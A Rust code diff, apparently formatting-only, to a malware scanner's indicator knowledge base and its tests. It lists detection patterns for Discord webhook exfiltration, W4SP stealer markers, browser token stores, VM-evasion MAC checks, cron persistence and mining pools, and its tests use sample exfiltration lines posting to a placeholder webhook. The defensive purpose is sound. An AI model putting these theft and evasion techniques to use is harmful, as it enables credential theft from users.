@@ -46,10 +46,16 @@ impl KnowledgeBase {
     pub fn security_default() -> Self {
         let mut kb = KnowledgeBase::new();
         for (pattern, kind, note) in [
-            (r"https?://[\w.-]+\.(xyz|top|icu|click|space|online|site)[/\w.-]*", IndicatorKind::Ioc,
-             "URL on an abuse-heavy TLD"),
-            (r"discord\.com/api/webhooks/\d+/[\w-]+", IndicatorKind::Network,
-             "Discord webhook exfiltration endpoint"),
+            (
+                r"https?://[\w.-]+\.(xyz|top|icu|click|space|online|site)[/\w.-]*",
+                IndicatorKind::Ioc,
+                "URL on an abuse-heavy TLD",
+            ),
+            (
+                r"discord\.com/api/webhooks/\d+/[\w-]+",
+                IndicatorKind::Network,
+                "Discord webhook exfiltration endpoint",
+            ),
             (r"[\w.-]+\.onion", IndicatorKind::Ioc, "Tor hidden service"),
         ] {
             kb.entries.push(KnowledgeEntry {
@@ -61,12 +67,32 @@ impl KnowledgeBase {
         }
         for (pattern, kind, note) in [
             ("w4sp", IndicatorKind::Ioc, "W4SP stealer family marker"),
-            ("wasp-stealer", IndicatorKind::Ioc, "W4SP stealer family marker"),
-            ("080027", IndicatorKind::AntiDebug, "VirtualBox MAC prefix check"),
-            ("000c29", IndicatorKind::AntiDebug, "VMware MAC prefix check"),
+            (
+                "wasp-stealer",
+                IndicatorKind::Ioc,
+                "W4SP stealer family marker",
+            ),
+            (
+                "080027",
+                IndicatorKind::AntiDebug,
+                "VirtualBox MAC prefix check",
+            ),
+            (
+                "000c29",
+                IndicatorKind::AntiDebug,
+                "VMware MAC prefix check",
+            ),
             ("crontab -", IndicatorKind::File, "cron persistence"),
-            ("/Local Storage/leveldb", IndicatorKind::File, "browser token store"),
-            ("stratum+tcp://", IndicatorKind::Network, "mining pool protocol"),
+            (
+                "/Local Storage/leveldb",
+                IndicatorKind::File,
+                "browser token store",
+            ),
+            (
+                "stratum+tcp://",
+                IndicatorKind::Network,
+                "mining pool protocol",
+            ),
         ] {
             kb.entries.push(KnowledgeEntry {
                 pattern: pattern.to_owned(),
@@ -165,7 +191,10 @@ mod tests {
     fn retrieves_abuse_tld_urls() {
         let kb = KnowledgeBase::security_default();
         let facts = kb.retrieve("requests.get('https://zorbex.xyz/tasks')");
-        assert!(facts.iter().any(|f| f.text.contains("zorbex.xyz")), "{facts:?}");
+        assert!(
+            facts.iter().any(|f| f.text.contains("zorbex.xyz")),
+            "{facts:?}"
+        );
     }
 
     #[test]
@@ -214,7 +243,10 @@ mod tests {
             "requests.post('https://discord.com/api/webhooks/123456789/abcDEF-ghi', json=d)",
         );
         assert!(
-            analysis.indicators.iter().any(|i| i.text.contains("discord.com/api/webhooks")),
+            analysis
+                .indicators
+                .iter()
+                .any(|i| i.text.contains("discord.com/api/webhooks")),
             "{:?}",
             analysis.indicators
         );
